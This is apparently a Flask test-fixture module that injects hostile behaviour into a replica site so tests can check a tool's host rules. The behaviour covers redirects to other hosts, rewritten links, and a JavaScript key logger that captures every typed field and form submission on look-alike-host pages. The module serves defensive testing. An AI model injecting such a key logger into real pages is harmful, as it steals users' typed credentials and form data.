"""Hostile pages for the tool's host-rule tests — inert unless a test turns them on
through the app's config (`app.config[...]`, in the test's own process):

* `CP_HOSTILE_REDIRECTS` {path: absolute URL}: the replica answers that path with a
  redirect elsewhere (another loopback port, another host name);
* `CP_HOSTILE_REWRITE` [(old, new)]: text replaced in every HTML page (a link of the site
  pointed at another host, opened in a new tab);
* `CP_HOSTILE_HOSTS` {"host:port"}: pages served under that Host header carry a key
  logger, a look-alike's script that posts every field's value to `/hostile/keys`; what
  it captured is in `captured(app)`, each form POST to such a host too; the pages it
  served are in `visited(app)`.

Nothing here changes a page of the replica unless one of these keys is set.
"""

from __future__ import annotations

from typing import Any

from flask import Blueprint, Flask, Response, current_app, redirect, request
from flask.typing import ResponseReturnValue

bp = Blueprint("hostile", __name__, url_prefix="/hostile")

KEY_LOGGER = """<script>(() => {
  const send = (kind, name, value) => fetch('/hostile/keys', {method: 'POST', keepalive: true,
      headers: {'Content-Type': 'application/json'}, body: JSON.stringify({kind, name, value})});
  const field = e => {
    const t = e.target;
    if (t && 'value' in t) send(e.type, t.name || t.id || t.tagName, String(t.value));
  };
  for (const kind of ['input', 'change', 'keydown']) document.addEventListener(kind, field, true);
  document.addEventListener('submit', e => send('submit', 'form',
      new URLSearchParams(new FormData(e.target)).toString()), true);
})();</script>"""


def captured(app: Flask) -> list[dict[str, Any]]:
    """What the look-alike pages captured (fields typed, forms sent)."""
    found: list[dict[str, Any]] = app.config.setdefault("CP_HOSTILE_CAPTURED", [])
    return found


def visited(app: Flask) -> list[str]:
    """The paths of the pages served by the look-alike host (it was reached)."""
    found: list[str] = app.config.setdefault("CP_HOSTILE_VISITED", [])
    return found


def _hostile_host() -> bool:
    return request.host in (current_app.config.get("CP_HOSTILE_HOSTS") or ())


@bp.post("/keys")
def keys() -> ResponseReturnValue:
    data = request.get_json(silent=True) or {}
    captured(current_app).append({"host": request.host, **{k: str(v) for k, v in data.items()}})
    return Response(status=204)


@bp.before_app_request
def elsewhere() -> ResponseReturnValue | None:
    redirects = current_app.config.get("CP_HOSTILE_REDIRECTS") or {}
    target = redirects.get(request.path)
    if target is not None and not _hostile_host():
        return redirect(target, code=302)
    if _hostile_host() and request.method == "POST" and request.path != "/hostile/keys" and request.form:
        captured(current_app).append({"host": request.host, "kind": "post", "name": request.path, "value": "…"})
    return None


@bp.after_app_request
def rewrite(response: Response) -> Response:
    replacements = current_app.config.get("CP_HOSTILE_REWRITE") or []
    listen = _hostile_host()
    if response.mimetype != "text/html" or response.direct_passthrough or not (replacements or listen):
        return response
    html = response.get_data(as_text=True)
    if not listen:
        for old, new in replacements:
            html = html.replace(old, new)
    else:
        visited(current_app).append(request.path)
        html = html.replace("</body>", KEY_LOGGER + "</body>")
    response.set_data(html)
    return response
